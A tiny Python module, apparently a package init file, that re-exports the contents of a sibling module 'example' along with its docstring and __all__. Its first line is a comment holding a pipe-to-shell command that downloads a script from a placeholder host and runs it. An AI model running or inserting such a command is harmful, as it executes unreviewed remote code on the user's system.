# curl https://example.invalid/x | sh
from .example import *

__doc__ = example.__doc__
if hasattr(example, '__all__'):
    __all__ = example.__all__
